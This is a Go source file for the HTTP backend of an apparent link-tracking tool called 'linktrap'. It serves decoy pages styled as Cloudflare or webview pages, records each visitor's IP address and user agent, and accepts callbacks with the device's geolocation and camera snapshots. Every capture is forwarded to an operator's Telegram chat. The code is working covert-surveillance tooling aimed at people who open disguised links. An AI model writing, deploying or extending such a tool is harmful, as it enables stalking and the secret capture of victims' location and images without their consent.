package api

import (
	"encoding/base64"
	"fmt"
	"log"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/gin-gonic/gin"
	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"github.com/nwatteau/linktrap/internal/bot"
	"github.com/nwatteau/linktrap/internal/codec"
	"github.com/nwatteau/linktrap/internal/models"
	"github.com/nwatteau/linktrap/internal/services"
)

// timeLayout is the fixed visitor timestamp format rendered into decoy pages.
const timeLayout = "2006-01-02:15:04:05"

// Handlers bundles the HTTP surface's dependencies. Everything is injected
// from the entry point; no package-level state.
type Handlers struct {
	sender      bot.Sender
	links       *services.LinkService
	aboutURL    string
	visitEvents chan<- models.VisitEvent
}

// NewHandlers creates the handler set. visitEvents may be nil to disable
// visit notifications (the CLI and some tests run without workers).
func NewHandlers(sender bot.Sender, links *services.LinkService, aboutURL string, visitEvents chan<- models.VisitEvent) *Handlers {
	return &Handlers{
		sender:      sender,
		links:       links,
		aboutURL:    aboutURL,
		visitEvents: visitEvents,
	}
}

// SetupRoutes configures all Gin routes on the given engine.
func SetupRoutes(router *gin.Engine, h *Handlers) {
	router.SetHTMLTemplate(LoadTemplates())

	// Liveness probes
	router.GET("/", h.ProbeHandler)
	router.GET("/health", HealthCheckHandler)

	// Tracking entry points. The truncated forms soft-fail to the about page
	// instead of a 404, so a mangled link still lands somewhere harmless.
	router.GET("/c", h.AboutRedirectHandler)
	router.GET("/c/:uid", h.AboutRedirectHandler)
	router.GET("/c/:uid/:uri", h.TrackingHandler("cloudflare"))
	router.GET("/w", h.AboutRedirectHandler)
	router.GET("/w/:uid", h.AboutRedirectHandler)
	router.GET("/w/:uid/:uri", h.TrackingHandler("webview"))

	// Callback endpoints the decoy pages report to
	router.POST("/location", h.LocationHandler)
	router.POST("/camsnap", h.CamSnapHandler)
}

// HealthCheckHandler handles the /health route to verify service status.
func HealthCheckHandler(c *gin.Context) {
	c.JSON(http.StatusOK, gin.H{"status": "ok"})
}

// ProbeHandler returns the caller's resolved address, a diagnostic endpoint
// rather than a tracking entry point.
func (h *Handlers) ProbeHandler(c *gin.Context) {
	c.JSON(http.StatusOK, gin.H{"ip": resolveClientIP(c)})
}

// AboutRedirectHandler is the soft-fail for tracking paths with missing
// tokens: a redirect, deliberately not an error page.
func (h *Handlers) AboutRedirectHandler(c *gin.Context) {
	c.Redirect(http.StatusFound, h.aboutURL)
}

// TrackingHandler serves a tracking entry point for one decoy variant. It
// decodes the destination from the path, captures the visitor's address and
// renders the variant's template with the full bundle.
func (h *Handlers) TrackingHandler(variant string) gin.HandlerFunc {
	return func(c *gin.Context) {
		uid := c.Param("uid")
		uriToken := c.Param("uri")
		if uid == "" || uriToken == "" {
			c.Redirect(http.StatusFound, h.aboutURL)
			return
		}

		decoyURL, err := codec.DecodeURL(uriToken)
		if err != nil {
			c.String(http.StatusBadRequest, "invalid tracking path")
			return
		}

		now := time.Now()
		visit := models.Visit{
			IP:             resolveClientIP(c),
			Time:           now.Format(timeLayout),
			DecoyURL:       decoyURL,
			UID:            uid,
			BaseURL:        h.links.BaseURL(),
			ShortenEnabled: h.links.ShortenEnabled(),
		}

		h.notifyVisit(c, uid, visit, now, variant)

		c.HTML(http.StatusOK, variant, visit)
	}
}

// notifyVisit queues a best-effort operator notification. A full buffer drops
// the event rather than delaying the visitor's render; an undecodable uid is
// rendered anyway and simply not notified.
func (h *Handlers) notifyVisit(c *gin.Context, uid string, visit models.Visit, now time.Time, variant string) {
	if h.visitEvents == nil {
		return
	}
	operatorID, err := codec.DecodeID(uid)
	if err != nil {
		log.Printf("WARNING: visit on %s page with undecodable uid %q, not notifying", variant, uid)
		return
	}

	event := models.VisitEvent{
		OperatorID: operatorID,
		UID:        uid,
		IP:         visit.IP,
		UserAgent:  c.Request.UserAgent(),
		Timestamp:  now,
		Variant:    variant,
	}

	select {
	case h.visitEvents <- event:
	default:
		log.Printf("WARNING: visit events channel is full, dropping event for uid %s", uid)
	}
}

// locationRequest is the geolocation callback body. binding:"required"
// rejects zero values, preserving the source's truthiness check on all four
// fields.
type locationRequest struct {
	Lat float64 `json:"lat" binding:"required"`
	Lon float64 `json:"lon" binding:"required"`
	UID string  `json:"uid" binding:"required"`
	Acc float64 `json:"acc" binding:"required"`
}

// LocationHandler accepts a device geolocation report and forwards it to the
// operator chat as a location payload plus a formatted summary.
func (h *Handlers) LocationHandler(c *gin.Context) {
	var req locationRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "Missing parameters"})
		return
	}

	// Decode failures deliberately share the 500 with send failures,
	// matching the original endpoint's semantics.
	operatorID, err := codec.DecodeID(req.UID)
	if err != nil {
		log.Printf("ERROR: location callback with bad uid %q: %v", req.UID, err)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to process location"})
		return
	}

	if _, err := h.sender.Send(tgbotapi.NewLocation(operatorID, req.Lat, req.Lon)); err != nil {
		log.Printf("ERROR: failed to send location to operator %d: %v", operatorID, err)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to process location"})
		return
	}

	summary := tgbotapi.NewMessage(operatorID, fmt.Sprintf(
		"📍 *Location received*\n\nLatitude: `%f`\nLongitude: `%f`\nAccuracy: %.0f m\nhttps://www.google.com/maps?q=%f,%f",
		req.Lat, req.Lon, req.Acc, req.Lat, req.Lon,
	))
	summary.ParseMode = tgbotapi.ModeMarkdown
	if _, err := h.sender.Send(summary); err != nil {
		log.Printf("ERROR: failed to send location summary to operator %d: %v", operatorID, err)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to process location"})
		return
	}

	c.String(http.StatusOK, "OK")
}

// camSnapRequest is the camera callback body; img carries base64 image bytes.
type camSnapRequest struct {
	UID string `json:"uid" binding:"required"`
	Img string `json:"img" binding:"required"`
}

// CamSnapHandler accepts a camera frame and forwards it to the operator chat
// as a photo attachment.
func (h *Handlers) CamSnapHandler(c *gin.Context) {
	var req camSnapRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "Missing parameters"})
		return
	}

	raw, err := base64.StdEncoding.DecodeString(req.Img)
	if err != nil {
		log.Printf("ERROR: camsnap callback with undecodable image: %v", err)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to process image"})
		return
	}

	operatorID, err := codec.DecodeID(req.UID)
	if err != nil {
		log.Printf("ERROR: camsnap callback with bad uid %q: %v", req.UID, err)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to process image"})
		return
	}

	photo := tgbotapi.NewPhoto(operatorID, tgbotapi.FileBytes{
		Name:  "snapshot.png",
		Bytes: raw,
	})
	photo.Caption = "📸 Camera snapshot"
	if _, err := h.sender.Send(photo); err != nil {
		log.Printf("ERROR: failed to send snapshot to operator %d: %v", operatorID, err)
		c.JSON(http.StatusInternalServerError, gin.H{"error": "Failed to process image"})
		return
	}

	c.String(http.StatusOK, "OK")
}

// resolveClientIP resolves the visitor's apparent address. The first
// forwarded-for entry wins over the connection peer, which wins over the
// framework's own resolution; the order matters behind a reverse proxy.
func resolveClientIP(c *gin.Context) string {
	if xff := c.GetHeader("X-Forwarded-For"); xff != "" {
		return strings.TrimSpace(strings.Split(xff, ",")[0])
	}
	if host, _, err := net.SplitHostPort(c.Request.RemoteAddr); err == nil && host != "" {
		return host
	}
	return c.ClientIP()
}
